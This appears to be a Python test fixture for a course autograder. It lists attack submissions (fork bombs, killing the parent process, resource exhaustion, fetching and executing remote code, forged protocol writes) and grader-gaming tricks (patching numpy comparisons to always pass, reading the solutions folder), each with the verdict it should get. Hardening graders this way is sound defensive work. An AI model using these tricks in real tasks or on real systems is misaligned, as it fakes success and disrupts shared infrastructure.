"""What attacks the grader or never ends: a cell, and what must be said of tasks because of it.

It stands in the place of the answer to the task that is named; a task that is not named must be
right all the same. "no points" stands for any verdict without
points, where it is a matter of chance which one it is.
"""

ATTACKS = (
    (
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        {},
    ),
    ("import os\nos._exit(0)", {}),
    ("import os\n\ndef flip(kernel):\n    os._exit(7)", {"flip": "crashed"}),
    ("import sys\nsys.exit('done')", {}),
    ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", {}),
    ("import ctypes\n\ndef flip(kernel):\n    return ctypes.string_at(0)", {"flip": "crashed"}),
    (
        """
def flip(kernel):
    hog = []
    while True:
        hog.append(bytearray(64 * 2**20))
""",
        {"flip": "no points"},
    ),
    ("def flip(kernel):\n    return np.ones((20, 2**27))", {"flip": "error"}),
    (
        """
import socket

def flip(kernel):
    server = socket.create_connection(("127.0.0.1", 80), timeout=2)
    return np.frombuffer(server.recv(kernel.nbytes))
""",
        {"flip": "error"},
    ),
    (
        """
import urllib.request
answers = urllib.request.urlopen("https://example.org/answers.txt", timeout=2).read()
exec(answers)
""",
        {},
    ),
    ("for _ in range(50):\n    print('x' * 2**20)", {}),
    (
        """
np.allclose = np.array_equal = np.all = lambda *args, **kwargs: True
np.abs = lambda x: 0 * x

def flip(kernel):
    return kernel
""",
        {"flip": "wrong"},
    ),
    (
        """
class Anything:
    shape = property(lambda self: self)
    __eq__ = lambda self, other: True
    __array_priority__ = 1e9

def flip(kernel):
    return Anything()
""",
        {"flip": "wrong"},
    ),
    (
        """
class Anything(np.ndarray):
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_

    def __array_function__(self, *args, **kwargs):
        return True

def flip(kernel):
    return np.zeros(kernel.shape).view(Anything)
""",
        {"flip": "wrong"},
    ),
    (
        """
import coursecnn
from pathlib import Path

def flip(kernel):
    folder = Path(coursecnn.__file__).parents[1] / "solutions"
    exec((folder / "03-convolution-by-hand.md").read_text())
""",
        {"flip": "error"},
    ),
    (
        """
import gc

def flip(kernel):
    seen = [one for one in gc.get_objects() if isinstance(one, np.ndarray)]
    return next(one for one in seen if one.shape == kernel.shape and one is not kernel)
""",
        {"flip": "no points"},
    ),
    (
        """
import json, os, struct

def flip(kernel):
    text = json.dumps({"call": 0, "value": {"kind": "plain", "value": 1}, "blobs": []}).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(text)) + text)
        except OSError:
            pass
    return kernel
""",
        {"flip": "no points"},
    ),
    ("import os\nos.closerange(0, 100)", {}),
    (
        """
import os, time
for _ in range(20):
    if os.fork() == 0:
        time.sleep(600)
""",
        {},
    ),
    (
        """
with open("full", "wb") as file:
    while True:
        file.write(bytes(2**20))
""",
        {},
    ),
    ("def flip(kernel):\n    return flip(flip(kernel))", {"flip": "error"}),
)

ENDLESS = (
    ("finished = False\nwhile not finished:\n    pass", {}),
    ("import time\nwhile True:\n    time.sleep(1)", {}),
    (
        """
def conv2d_valid(image, kernel):
    rows, columns = kernel.shape
    out = np.zeros((image.shape[0] - rows + 1, image.shape[1] - columns + 1))
    i = 0
    while i < out.shape[0]:
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i : i + rows, j : j + columns] * kernel)
    return out
""",
        {"conv2d_valid": "timeout"},
    ),
    (
        """
def cross_correlate_1d(signal, kernel):
    out, i = [], 0
    while i + len(kernel) <= len(signal):
        out.append(np.sum(signal[i : i + len(kernel)] * kernel))
        i = i + 0
        out = out[-1000:]
    return np.array(out)
""",
        {"cross_correlate_1d": "timeout"},
    ),
    (
        """
def flip(kernel):
    out = np.zeros(kernel.shape)
    while not np.array_equal(out.sum(), kernel.sum() + 1):
        out = np.random.permutation(kernel.ravel()).reshape(kernel.shape)
    return out
""",
        {"flip": "timeout"},
    ),
    (
        """
import itertools

def edge_map(image):
    out = np.zeros((image.shape[0] - 2, image.shape[1] - 2))
    for u in itertools.count():
        out += np.abs(image[:-2, 2:] - image[:-2, :-2]) * 0.5**u
    return out
""",
        {"edge_map": "timeout"},
    ),
)
